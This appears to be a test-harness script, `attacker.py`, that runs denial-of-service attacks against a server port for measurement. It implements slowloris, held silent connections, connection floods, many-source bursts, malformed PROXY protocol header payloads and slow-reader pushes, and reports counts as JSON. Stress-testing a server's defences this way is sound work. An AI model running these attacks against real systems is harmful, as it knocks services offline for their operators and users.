"""One attack: `attacker.py ATTACK PORT COUNT [HOST]`.

It prints "attacking" as soon as it is under way, goes on until its standard input is closed, and then prints a line of
JSON with what it has done.  An attack that has an end says so by "done".  COUNT is how many connections it has at a
time, or of how many hosts it is.
"""

from __future__ import annotations

import errno
import json
import os
import selectors
import socket
import struct
import sys
import time
from collections.abc import Callable
from ipaddress import IPv6Address

PORT, COUNT = int(sys.argv[2]), int(sys.argv[3])
HOST = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
NO_LINGER = struct.pack("ii", 1, 0)
PATIENCE = 0.01  # seconds that one wait may take
# Connections a second: so many that they are an attack, and so few that who is measured beside it has a processor too.
PACE = 4000

SIGNATURE = b"\r\n\r\n\x00\r\nQUIT\n"
BOMBS = (
    b"PROXY TCP4 " + b"1" * 200,  # never ends
    b"PROXY TCP4 999.1.1.1 127.0.0.1 1 2\r\n",
    b"PROXY " + b"\xff" * 60 + b"\r\n",
    b"GET / HTTP/1.1\r\n\r\n",
    SIGNATURE + b"\x21\x11\xff\xff" + b"\x00" * 4000,  # says that 64 KiB come
    SIGNATURE + b"\x31\x11\x00\x0c" + b"\x00" * 12,  # of no version
    SIGNATURE + b"\x21\x11\x00\x02" + b"\x00" * 2,  # shorter than what it has to have
    SIGNATURE + b"\x21\x11\x00\x13" + b"\x7f" * 12 + b"\x03\x00\x04" + b"\x00" * 4,  # a wrong checksum
    SIGNATURE + b"\x21\x11\x00\x10" + b"\x7f" * 12 + b"\x20\xff\xff\x00",  # a part that is longer than the whole
    SIGNATURE[:5],  # and then nothing
)


class Attacker:
    def __init__(self) -> None:
        self.selector = selectors.DefaultSelector()
        self.selector.register(0, selectors.EVENT_READ)
        self.begun = self.cut = self.failed = 0
        self.open: dict[socket.socket, float] = {}
        self.is_over = False
        self.due = time.monotonic()

    def source(self, number: int) -> tuple[str, int]:
        """Twenty connections come from one address."""
        return f"127.1.{number // 20 // 250 % 250}.{number // 20 % 250 + 1}", 0

    def connect(self, source: tuple[str, int]) -> socket.socket | None:
        while (early := self.due - time.monotonic()) > 0:
            time.sleep(early)
        # What was missed is made up for, but not for long.
        self.due = max(self.due, time.monotonic() - PATIENCE) + 1 / PACE
        family = socket.AF_INET6 if ":" in source[0] else socket.AF_INET
        one = socket.socket(family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, NO_LINGER)
        if family == socket.AF_INET6:
            one.setsockopt(socket.IPPROTO_IPV6, getattr(socket, "IPV6_FREEBIND", 78), 1)
        else:
            one.setsockopt(socket.IPPROTO_IP, getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24), 1)
        one.bind(source)
        status = one.connect_ex((HOST, PORT))
        if status not in (0, errno.EINPROGRESS):
            self.failed += 1
            one.close()
            return None
        self.begun += 1
        self.open[one] = time.monotonic()
        return one

    def watch(self, one: socket.socket, events: int, on_ready: Callable[[socket.socket, int], None]) -> None:
        self.selector.register(one, events, on_ready)

    def drop(self, one: socket.socket) -> None:
        if self.open.pop(one, None) is not None:
            try:
                self.selector.unregister(one)
            except KeyError:
                pass
            one.close()

    def turn(self, patience: float = PATIENCE) -> None:
        for key, events in self.selector.select(patience):
            if key.data is None:
                self.is_over = self.is_over or os.read(0, 1) == b""
            else:
                key.data(key.fileobj, events)

    def is_cut(self, one: socket.socket) -> bool:
        """Whether the server has ended it; what it says is thrown away."""
        try:
            ended = one.recv(65536) == b""
        except BlockingIOError:
            return False
        except OSError:
            ended = True
        if ended:
            self.cut += 1
            self.drop(one)
        return ended

    def on_said(self, one: socket.socket, events: int) -> None:
        self.is_cut(one)

    # === Attacks ===

    def slow_loris(self) -> None:
        """Requests that come byte by byte, on as many connections as can be had."""
        number = 0
        while not self.is_over:
            while len(self.open) < COUNT and not self.is_over:
                one = self.connect(self.source(number % COUNT))
                number += 1
                if one is not None:
                    self.watch(one, selectors.EVENT_READ, self.on_said)
                if number % 50 == 0:
                    self.turn(0)
            self.say("attacking")
            due = time.monotonic() + 0.3
            for one in list(self.open):
                try:
                    one.send(b"x")
                except BlockingIOError:
                    pass
                except OSError:
                    self.cut += 1
                    self.drop(one)
            while time.monotonic() < due and not self.is_over:
                self.turn(max(0, due - time.monotonic()))

    def silence(self, source: Callable[[int], tuple[str, int]] | None = None) -> None:
        """Connections that say nothing, and come back as soon as they are cut."""
        source = source or self.source
        number = 0
        while not self.is_over:
            while len(self.open) < COUNT and not self.is_over:
                one = self.connect(source(number % COUNT))
                number += 1
                if one is not None:
                    self.watch(one, selectors.EVENT_READ, self.on_said)
                if number % 20 == 0:
                    break
            if number >= COUNT:
                self.say("attacking")
            self.turn()

    def one_host(self) -> None:
        """The same from one address."""
        self.silence(lambda number: ("127.1.0.1", 0))

    def flood(self) -> None:
        """Connections of one address, closed as soon as they are there."""
        def on_there(one: socket.socket, events: int) -> None:
            self.drop(one)

        while not self.is_over:
            while len(self.open) < COUNT:
                one = self.connect(("127.1.0.1", 0))
                if one is None:
                    break
                self.watch(one, selectors.EVENT_WRITE, on_there)
            self.say("attacking")
            self.turn()

    def hosts(self, address: Callable[[int], str] | None = None) -> None:
        """Three connections of each host; the first two stay until the third was cut."""
        address = address or (lambda number: f"127.{number // 62500 + 1}.{number // 250 % 250}.{number % 250 + 1}")
        number = 0
        of_host: dict[socket.socket, list[socket.socket]] = {}

        def on_cut(one: socket.socket, events: int) -> None:
            if self.is_cut(one):
                for other in of_host.pop(one):
                    self.drop(other)

        self.say("attacking")
        while (number < COUNT or of_host) and not self.is_over:
            while number < COUNT and len(of_host) < 64 and not self.is_over:
                three = [one for one in (self.connect((address(number), 0)) for _ in range(3)) if one is not None]
                number += 1
                of_host[three[2]] = three[:2]
                self.watch(three[2], selectors.EVENT_READ, on_cut)
                # At once, or all would go together: a burst, and no steady flood.
                self.turn(0)
            self.turn()
        self.finish()

    def networks(self) -> None:
        """The same with hosts of a network of IPv6."""
        first = int(IPv6Address("2001:db8::1"))
        self.hosts(lambda number: str(IPv6Address(first + (number << 64))))

    def header_bombs(self) -> None:
        """Headers in front of connections that are wrong, too long or too late."""
        number = 0
        while not self.is_over:
            while len(self.open) < COUNT:
                one = self.connect(self.source(number))
                if one is None:
                    break
                bomb = BOMBS[number % len(BOMBS)]
                number += 1
                self.watch(one, selectors.EVENT_WRITE, lambda one, events, bomb=bomb: self.throw(one, bomb))
            self.say("attacking")
            self.turn()

    def throw(self, one: socket.socket, bomb: bytes) -> None:
        try:
            one.send(bomb)
        except OSError:
            self.cut += 1
            self.drop(one)
            return
        self.selector.modify(one, selectors.EVENT_READ, self.on_said)

    def stopped_reader(self) -> None:
        """Asks for much, again and again, and reads nothing."""
        self.push(b"much\n" * 20)

    def framing_bombs(self) -> None:
        """Lines that never end."""
        self.push(b"x" * 65536)

    def push(self, data: bytes) -> None:
        def on_ready(one: socket.socket, events: int) -> None:
            try:
                one.send(data)
            except BlockingIOError:
                pass
            except OSError:
                self.cut += 1
                self.drop(one)

        number = 0
        while not self.is_over:
            while len(self.open) < COUNT:
                one = self.connect(self.source(number % COUNT))
                number += 1
                if one is None:
                    break
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                self.watch(one, selectors.EVENT_WRITE, on_ready)
            self.say("attacking")
            self.turn()

    # === What it says ===

    def say(self, word: str) -> None:
        if not getattr(self, f"said_{word}", False):
            setattr(self, f"said_{word}", True)
            print(word, flush=True)

    def finish(self) -> None:
        self.say("done")
        while not self.is_over:
            self.turn(1)

    def report(self) -> str:
        return json.dumps({"begun": self.begun, "cut": self.cut, "failed": self.failed})


def main() -> None:
    attacker = Attacker()
    getattr(attacker, sys.argv[1].replace("-", "_"))()
    for one in list(attacker.open):
        attacker.drop(one)
    print(attacker.report(), flush=True)


if __name__ == "__main__":
    main()
